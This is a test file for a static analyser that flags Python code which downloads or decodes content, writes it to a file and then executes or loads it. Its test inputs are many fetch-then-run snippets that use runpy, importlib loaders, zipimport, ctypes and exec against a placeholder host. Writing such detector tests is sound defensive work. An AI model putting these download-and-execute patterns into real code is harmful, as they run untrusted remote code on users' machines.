import { describe, expect, test } from 'vitest'
import type { Act } from '../../../act.ts'
import { readPython } from '../testing.ts'

const acts = (code: string): Act[] => readPython({ 'a.py': code }).acts
const foreign = (code: string) =>
  acts(code).filter(
    ({ kind, origins }) =>
      kind === 'run-code' && (origins.includes('network') || origins.includes('decoded')),
  )

const FETCH = 'import requests\ndata = requests.get("https://x.invalid/m.py").content\n'
const SPEC = 'import importlib.util as u\n'

describe('a file that is fetched and then loaded', () => {
  test.each([
    [
      'a temporary file, by its specification',
      `${FETCH}${SPEC}import tempfile\nf = tempfile.NamedTemporaryFile(suffix=".py")\nf.write(data)\ns = u.spec_from_file_location("m", f.name)\nm = u.module_from_spec(s)\ns.loader.exec_module(m)`,
    ],
    [
      'within a context',
      `${FETCH}from tempfile import NamedTemporaryFile as T\nimport runpy\nwith T("wb", delete=False) as f:\n    f.write(data)\nrunpy.run_path(f.name)`,
    ],
    [
      'copied as a stream',
      'import shutil, tempfile, imp\nfrom urllib.request import urlopen\nf = tempfile.NamedTemporaryFile()\nshutil.copyfileobj(urlopen("https://x.invalid"), f)\nimp.load_source("m", f.name)',
    ],
    [
      'a descriptor',
      `${FETCH}import os, tempfile\nfrom importlib.machinery import SourceFileLoader as L\nfd, path = tempfile.mkstemp(".py")\nwith os.fdopen(fd, "wb") as f:\n    f.write(data)\nL("m", path).load_module()`,
    ],
    [
      'a descriptor as it is',
      `${FETCH}import os, tempfile, runpy\nfd, p = tempfile.mkstemp()\nos.write(fd, data)\nrunpy.run_path(p)`,
    ],
    [
      'a loader within a specification',
      `${FETCH}${SPEC}from importlib import machinery\nopen("cache/m.py", "wb").write(data)\nl = machinery.SourceFileLoader("m", "cache/m.py")\ns = u.spec_from_loader("m", l)\ns.loader.exec_module(u.module_from_spec(s))`,
    ],
    [
      'a module in a folder of its own',
      `${FETCH}import sys, os, tempfile\nd = tempfile.mkdtemp()\nopen(os.path.join(d, "extra.py"), "wb").write(data)\nsys.path.insert(0, d)\n__import__("extra")`,
    ],
    [
      'a package in a temporary folder',
      `${FETCH}import sys, importlib\nfrom pathlib import Path\nfrom tempfile import TemporaryDirectory\nwith TemporaryDirectory() as d:\n    (Path(d) / "extra.py").write_bytes(data)\n    sys.path.append(d)\n    importlib.import_module("extra")`,
    ],
    ['an import line', `${FETCH}with open("extra.py", "w") as f:\n    f.write(data)\nimport extra`],
    ['names of an import line', `${FETCH}print(data, file=open("./late.py", "w"))\nfrom late import start`],
    [
      'hidden text',
      `import base64, runpy\nopen("/tmp/a.py", "wb").write(base64.b64decode("cHJpbnQoMSk="))\nrunpy.run_path("/tmp/a.py")`,
    ],
    [
      'an archive',
      `${FETCH}import zipimport\nopen("m.zip", "wb").write(data)\nzipimport.zipimporter("m.zip").load_module("m")`,
    ],
    ['a library', `${FETCH}import ctypes\nopen("/tmp/l.so", "wb").write(data)\nctypes.CDLL("/tmp/l.so")`],
    [
      'a library that is retrieved',
      'import ctypes, urllib.request as r\nr.urlretrieve("https://x.invalid/l.dll", "l.dll")\nctypes.windll.LoadLibrary("l.dll")',
    ],
    [
      'a path that the caller names',
      `${FETCH}${SPEC}def go(path):\n    with open(path, "wb") as f:\n        f.write(data)\n    s = u.spec_from_file_location("x", path)\n    s.loader.exec_module(u.module_from_spec(s))`,
    ],
    [
      'a module by the stem of its path',
      `${FETCH}import sys, importlib\nfrom pathlib import Path\np = Path("cache/zz.py")\np.write_bytes(data)\nsys.path.insert(0, str(p.parent))\nimportlib.import_module(p.stem)`,
    ],
    [
      'what is read back',
      `${FETCH}import tempfile\nf = tempfile.TemporaryFile("w+")\nf.write(data)\nf.seek(0)\nexec(f.read())`,
    ],
  ])('%s', (_, code) => {
    expect(foreign(code)).toHaveLength(1)
  })

  test('it is told where it is loaded, and that it is written', () => {
    const code = `${FETCH}${SPEC}import tempfile\nf = tempfile.NamedTemporaryFile()\nf.write(data)\ns = u.spec_from_file_location("m", f.name)\ns.loader.exec_module(u.module_from_spec(s))`
    expect(foreign(code)[0]?.where).toMatchObject({ line: 8 })
    expect(acts(code).find(({ kind }) => kind === 'write-file')?.origins).toEqual(['network'])
  })

  test('a program that its maker releases is started, not read', () => {
    const code =
      'import ctypes, urllib.request as r\nr.urlretrieve("https://github.com/a/b/releases/download/v1/l.so", "l.so")\nctypes.CDLL("l.so")'
    expect(acts(code).map(({ kind }) => kind)).toEqual(['download', 'write-file', 'run-program'])
  })

  test.each([
    [
      'plugins of its own',
      `${SPEC}import glob\nfor p in glob.glob("plugins/*.py"):\n    s = u.spec_from_file_location("p", p)\n    m = u.module_from_spec(s)\n    s.loader.exec_module(m)`,
    ],
    [
      'plugins beside an answer that is kept',
      `${FETCH}${SPEC}open("data.json", "wb").write(data)\ns = u.spec_from_file_location("p", "plugins/a.py")\ns.loader.exec_module(u.module_from_spec(s))`,
    ],
    [
      'a manager of plugins that keeps one and loads another',
      `${FETCH}import runpy\ndef keep(path):\n    open(path, "wb").write(data)\ndef load(path):\n    runpy.run_path(path)`,
    ],
    [
      'paths of which nothing is known',
      `${FETCH}import os, runpy\ndef go(a, b, c, d):\n    open(os.path.join(a, b), "wb").write(data)\n    runpy.run_path(os.path.join(c, d))\n    open(a + ".py", "wb").write(data)\n    runpy.run_path(b + ".py")`,
    ],
    [
      'two temporary files',
      `${FETCH}import tempfile, runpy\na = tempfile.NamedTemporaryFile()\na.write(data)\nb = tempfile.NamedTemporaryFile()\nb.write(b"x = 1")\nrunpy.run_path(b.name)`,
    ],
    [
      'libraries of the system',
      `${FETCH}import ctypes, ctypes.util\nctypes.CDLL("libc.so.6")\nctypes.cdll.LoadLibrary(ctypes.util.find_library("m"))`,
    ],
    ['modules of another name', `${FETCH}open("schema.json", "wb").write(data)\nimport schema\nimport json`],
    [
      'weights',
      'import torch, urllib.request as r\nr.urlretrieve("https://x.invalid/m.pt", "m.pt")\ntorch.load("m.pt", weights_only=True)',
    ],
  ])('%s', (_, code) => {
    expect(foreign(code)).toEqual([])
  })
})
